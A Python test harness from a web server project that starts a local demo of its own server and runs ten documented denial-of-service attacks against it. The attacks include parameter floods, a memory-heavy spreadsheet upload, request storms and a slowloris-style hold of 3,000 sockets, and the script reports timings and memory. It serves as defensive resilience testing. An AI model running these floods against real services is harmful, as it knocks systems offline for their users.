#!/usr/bin/env python3
"""The attacks on availability that docs/findings.md lists (A1 to A10), with the same inputs, against a demo of its own.

    deploy/attacks.py [target/release/danvan]        (Linux; opens 3,000 sockets: ulimit -n 20000)

Prints what came out: statuses, seconds, memory in MiB. A test of each mechanism is in tests/it/storms.rs; this is for looking.
"""
import http.client
import io
import itertools
import json
import os
import socket
import string
import subprocess
import sys
import tempfile
import threading
import time
import uuid
import zipfile

home = tempfile.mkdtemp(prefix='danvan-attacks-')
os.chmod(home, 0o755)  # as root, the supervised server is another user
p = subprocess.Popen([sys.argv[1] if len(sys.argv) > 1 else 'target/release/danvan', 'demo','--json','--data-dir',home,'--bind','127.0.0.1:18080'],stdout=subprocess.PIPE,stderr=subprocess.DEVNULL,text=True)
out=''
while True:
    line=p.stdout.readline(); out+=line
    try: facts=json.loads(out); break
    except Exception:
        if not line: sys.exit('the demo does not start')
B=('127.0.0.1',18080)
def ask(method,path,body=None,headers={},timeout=60):
    c=http.client.HTTPConnection(*B,timeout=timeout); t=time.time()
    c.request(method,path,body,headers); r=c.getresponse(); d=r.read(); return r.status,dict(r.getheaders()),d,time.time()-t
def rss(): 
    return sum(int(l.split()[1]) for l in open(f'/proc/{p.pid}/status') if l.startswith('VmRSS'))//1024
acc={a['username']:a['password'] for a in facts['accounts']}
tokens={}
def login(u):
    if u in tokens: return tokens[u]
    s,h,d,t=ask('POST','/v1/auth/login',json.dumps({'username':u,'password':acc[u],'device_name':'m'}),{'Content-Type':'application/json'})
    tokens[u]=json.loads(d)['access_token']; return tokens[u]
names=[''.join(x) for x in itertools.product(string.ascii_lowercase+string.digits,repeat=3)]
for n in (20000,40000):
    body='&'.join(x+'=' for x in names[:n])
    s,h,d,t=ask('POST','/v1/oauth/token',body,{'Content-Type':'application/x-www-form-urlencoded'})
    print('A1',n,len(body),s,round(t,4))
q='&'.join(x+'=' for x in names[:1000]); s,h,d,t=ask('GET','/v1/activities?'+q); print('A2a 1000 names 5KB',s,round(t,4))
q='&'.join(x+'=' for x in names[:12000]); s,h,d,t=ask('GET','/v1/activities?'+q); print('A2a 12000 names',len(q),s,round(t,4))
C=facts['commune_id']
q='include='+','.join(['hamlet']*1000); s,h,d,t=ask('GET',f'/v1/activities?commune={C}&'+q); print('A2b 1000 includes',s,round(t,4),len(h.get('link','')or h.get('Link','')))
q='include='+','.join(['hamlet']*3000); s,h,d,t=ask('GET',f'/v1/activities?commune={C}&'+q); print('A2b 3000 includes',s,round(t,4))
# A3
text='x'*5000
shared='<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'+text+'</t></si></sst>'
cols=[]
for i in range(100):
    n=i; s_=''
    while True:
        s_=chr(65+n%26)+s_; n=n//26-1
        if n<0: break
    cols.append(s_)
rows=''.join(f'<row r="{r}">'+''.join(f'<c r="{c}{r}" t="s"><v>0</v></c>' for c in cols)+'</row>' for r in range(1,401))
sheet='<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'+rows+'</sheetData></worksheet>'
b=io.BytesIO()
with zipfile.ZipFile(b,'w',zipfile.ZIP_DEFLATED) as z:
    z.writestr('[Content_Types].xml','<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    z.writestr('_rels/.rels','<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    z.writestr('xl/workbook.xml','<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>')
    z.writestr('xl/_rels/workbook.xml.rels','<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    z.writestr('xl/worksheets/sheet1.xml',sheet); z.writestr('xl/sharedStrings.xml',shared)
head=login('truongap1'); before=rss(); peak=[before]; stop=False
def watch():
    while not stop: peak.append(rss()); time.sleep(0.01)
w=threading.Thread(target=watch); w.start()
s,h,d,t=ask('POST',f'/v1/imports?commune={C}&kind=volunteers',b.getvalue(),{'Authorization':'Bearer '+head,'Content-Type':'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'})
stop=True; w.join(); print('A3',len(b.getvalue()),s,round(t,3),'rss',before,'->',max(peak))
# A6
s,h,d,t=ask('GET',f'/v1/sync?commune={C}&resources=hamlets',None,{'Authorization':'Bearer '+head})
def heavy(hdr):
    ok=0
    for _ in range(120):
        s,h,d,t=ask('GET',f'/v1/sync?commune={C}&resources=hamlets',None,{'Authorization':'Bearer '+login('vanphong'),**hdr}); ok+=s==200
    return ok
a=heavy({'If-None-Match':'"x"'}); print('A6 heavy with a false tag',a,'of 120')
t0=time.time(); s,h,d,t=ask('GET','/openapi.json',None,{'Accept-Encoding':'gzip'}); ts=[ask('GET','/openapi.json',None,{'Accept-Encoding':'gzip'})[3] for _ in range(20)]
s2=ask('GET','/openapi.json',None,{'If-None-Match':h.get('etag') or h.get('ETag')}); print('A8 median',sorted(ts)[10],'bytes',len(d),'304:',s2[0])
# A9
open_=[]; codes=[]
for _ in range(14):
    c=http.client.HTTPConnection(*B,timeout=10); c.request('GET',f'/v1/stream?commune={C}&resources=hamlets',None,{'Authorization':'Bearer '+login('chutich')}); r=c.getresponse(); codes.append(r.status); open_.append(c)
print('A9',codes)
for c in open_: c.close()
# A10: a big document? batch of 100 stale patches on campaign
off=login('vanphong'); camp=facts['campaign_id']
big={'purposes':['x'*4900]*50,'requirements':['y'*4900]*50,'general_directions':['z'*4900]*50}
s,h,d,t=ask('PATCH',f'/v1/campaigns/{camp}',json.dumps(big),{'Authorization':'Bearer '+off,'Content-Type':'application/json','If-Match':'*'}); print('big',s,len(d))
ops=[{'id':f'o{i}','method':'PATCH','path':f'/v1/campaigns/{camp}','headers':{'If-Match':'"1"'},'body':{'movement':'a'}} for i in range(100)]
s,h,d,t=ask('POST','/v1/batch',json.dumps({'operations':ops}),{'Authorization':'Bearer '+off,'Content-Type':'application/json'}); print('A10',s,len(d),round(t,2), [r['status'] for r in json.loads(d)['results']].count(503) if s==200 else d[:200])
# A4: self registered account storms check-ins, office patches
hid=json.loads(ask('GET',f'/v1/hamlets?commune={C}&limit=1')[2])['items'][0]['id']
vol=login('tinhnguyen')
act=json.loads(ask('GET',f'/v1/activities?commune={C}&limit=1')[2])['items'][0]['id']
def storm(k):
    items=[{'id':str(uuid.uuid4()),'action':'check_in','activity_id':act,'volunteer_id':str(uuid.uuid4()),'occurred_at':'2024-07-17T00:00:00Z'} for _ in range(1000)]
    try: res.append(ask('POST','/v1/sign-ups/check-ins',json.dumps({'commune_id':C,'items':items}),{'Authorization':'Bearer '+vol,'Content-Type':'application/json'})[0])
    except Exception as e: res.append(str(e)[:40])
def patch(): 
    return ask('PATCH',f'/v1/hamlets/{hid}',json.dumps({'population':int(time.time())%9999}),{'Authorization':'Bearer '+off,'Content-Type':'application/json','If-Match':'*'})
print('A4 before',[ (r[0],round(r[3],3)) for r in (patch() for _ in range(5))])
res=[]; ths=[threading.Thread(target=storm,args=(k,)) for k in range(20)]
[x.start() for x in ths]; lat=[]
t0=time.time()
while any(x.is_alive() for x in ths) and time.time()-t0<15: r=patch(); lat.append((r[0],round(r[3],3))); time.sleep(0.05)
[x.join() for x in ths]; print('A4 storm',{str(k):res.count(k) for k in set(map(str,res)) and set(res)},'patches',len(lat),'slowest',max(l[1] for l in lat) if lat else None,{s for s,_ in lat})
# A5
b0=rss(); socks=[]
for i in range(int(os.environ.get('A5','3000'))):
    try:
        s_=socket.create_connection(B,timeout=5); s_.sendall(b'POST /v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{'); socks.append(s_)
    except Exception as e: break
print('A5 opened',len(socks),'rss',b0,'->',rss()); t0=time.time(); time.sleep(40); alive=0
for s_ in socks:
    s_.setblocking(False)
    try:
        d=s_.recv(100)
    except BlockingIOError: alive+=1
    except Exception: pass
print('A5 still waiting after 40 s',alive,'rss',rss())
p.terminate()
p.wait()
subprocess.run(["rm", "-rf", home], check=False)
